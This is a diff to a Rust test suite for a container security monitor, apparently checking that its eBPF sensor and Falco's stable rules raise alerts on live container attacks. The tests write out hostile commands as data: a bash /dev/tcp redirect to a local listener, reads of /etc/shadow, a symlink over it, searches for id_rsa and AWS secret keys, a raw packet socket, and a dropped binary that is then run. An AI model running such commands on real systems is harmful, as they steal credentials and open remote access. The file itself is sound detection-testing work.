@@ -375,6 +375,19 @@ fn live_attacks_in_containers_raise_alerts_and_a_web_server_does_not() {
         "reverse shell redirection",
     );
     assert_eq!(accept.join().unwrap().trim(), "pwned");
+    // A packet socket (sniffing, ARP spoofing): Docker grants CAP_NET_RAW by default.
+    ok(
+        exec(
+            &target,
+            None,
+            &[
+                "perl",
+                "-e",
+                "socket(my $s, 17, 3, 0x300) or die \"socket: $!\"",
+            ],
+        ),
+        "packet socket",
+    );
     // unshare and mount are refused without CAP_SYS_ADMIN; the attempts are what counts.
     let _ = exec(&target, None, &["unshare", "-m", "true"]);
     let _ = exec(&target, None, &["mount", "-t", "tmpfs", "none", "/mnt"]);
@@ -489,6 +502,11 @@ fn live_attacks_in_containers_raise_alerts_and_a_web_server_does_not() {
                 .is_some_and(|n| n.ends_with(&format!("127.0.0.1:{rport}")))
         },
         "bash /dev/tcp redirection",
+    );
+    expect(
+        "Packet socket opened in container",
+        &|a| field(a, "proc.name") == "perl",
+        "perl socket(AF_PACKET, SOCK_RAW)",
     );
     expect(
         "Namespace or mount change in container",
@@ -979,4 +997,128 @@ fn bad_monitor_arguments_exit_2_and_say_what_is_wrong() {
     ]);
     assert_eq!(run.code, Some(2), "{}", run.stderr);
     assert!(run.stderr.contains("bad.yaml:"), "{}", run.stderr);
+}
+
+/// Falco's own stable `falco_rules.yaml`, alone (no built-in rules), on the live eBPF
+/// stream: each action in a real container must raise Falco's rule for it, with the fields
+/// Falco's conditions read (fd.name and fd.directory, evt.arg.domain, evt.rawres and
+/// fd.type of a dup2, proc.is_exe_upper_layer, evt.arg.target of a symlink, proc.args).
+#[test]
+fn falco_stable_rules_fire_on_live_container_events() {
+    if !live_prerequisites() {
+        return;
+    }
+    let Some(data) = strata_testkit::require(strata_testkit::find_data_dir()) else {
+        return;
+    };
+    let falco = data.join("falco/rules-falco-rules-5.1.0/falco_rules.yaml");
+    let Some(img) = strata_testkit::images::minbase() else {
+        return;
+    };
+    img.ensure_loaded().unwrap();
+    let tag = std::process::id();
+    let sensor = Sensor::start(
+        "ebpf",
+        &["--no-builtin-rules", "--rules", falco.to_str().unwrap()],
+    );
+    let c = run_container(
+        &format!("strata-mon-falco-{tag}"),
+        &img.reference,
+        &[],
+        &["sleep", "600"],
+    );
+    std::thread::sleep(Duration::from_secs(1));
+    let sh = |script: &str| {
+        let o = exec(&c, None, &["bash", "-c", script]);
+        assert!(
+            o.status.success(),
+            "{script}: {}",
+            String::from_utf8_lossy(&o.stderr)
+        );
+    };
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let accept = std::thread::spawn(move || {
+        let (mut s, _) = listener.accept().unwrap();
+        let mut got = String::new();
+        let _ = s.read_to_string(&mut got);
+        got
+    });
+    // Other tests of this binary run the same attacks at the same time: every command
+    // here carries the test's tag, and only alerts with it count.
+    sh(&format!(
+        "cat /etc/shadow /etc/strata-{tag} >/dev/null 2>&1; true"
+    ));
+    sh(&format!(
+        "perl -e 'socket(my $s, 17, 3, 0x300) or die \"socket: $!\"; # strata-{tag}'"
+    ));
+    sh(&format!("exec 1>/dev/tcp/127.0.0.1/{port}; echo pwned"));
+    assert_eq!(accept.join().unwrap().trim(), "pwned");
+    sh(&format!(
+        "cp /usr/bin/true /tmp/dropped-{tag} && chmod +x /tmp/dropped-{tag} && /tmp/dropped-{tag}"
+    ));
+    sh(&format!("ln -s /etc/shadow /tmp/shadow-link-{tag}"));
+    sh(&format!(
+        "find / -xdev -name id_rsa -o -name strata-{tag} >/dev/null 2>&1; true"
+    ));
+    sh(&format!(
+        "grep -rs aws_secret_access_key /root/strata-{tag} >/dev/null; true"
+    ));
+    std::thread::sleep(Duration::from_secs(1));
+    let (alerts, stderr) = sensor.stop();
+    let dump = || {
+        alerts
+            .iter()
+            .map(|a| format!("{} | {}", a["rule"], a["output"]))
+            .collect::<Vec<_>>()
+            .join("\n")
+    };
+    let tagged = move |name: &'static str| {
+        move |a: &Value| {
+            field(a, name)
+                .as_str()
+                .is_some_and(|v| v.contains(&format!("-{tag}")))
+        }
+    };
+    let to_listener = move |a: &Value| {
+        field(a, "fd.name")
+            .as_str()
+            .is_some_and(|n| n.ends_with(&format!("127.0.0.1:{port}")))
+    };
+    type Check = Box<dyn Fn(&Value) -> bool>;
+    let checks: [(&str, Check); 7] = [
+        (
+            "Read sensitive file untrusted",
+            Box::new(tagged("proc.cmdline")),
+        ),
+        (
+            "Packet socket created in container",
+            Box::new(tagged("proc.cmdline")),
+        ),
+        (
+            "Redirect STDOUT/STDIN to Network Connection in Container",
+            Box::new(to_listener),
+        ),
+        (
+            "Drop and execute new binary in container",
+            Box::new(tagged("proc.exepath")),
+        ),
+        (
+            "Create Symlink Over Sensitive Files",
+            Box::new(tagged("evt.arg.linkpath")),
+        ),
+        (
+            "Search Private Keys or Passwords",
+            Box::new(tagged("proc.cmdline")),
+        ),
+        ("Find AWS Credentials", Box::new(tagged("proc.cmdline"))),
+    ];
+    for (rule, check) in checks {
+        assert!(
+            alerts.iter().any(|a| a["rule"] == rule && check(a)),
+            "Falco's rule {rule:?} did not fire for container {}; alerts:\n{}\nstderr:\n{stderr}",
+            c.name,
+            dump()
+        );
+    }
 }
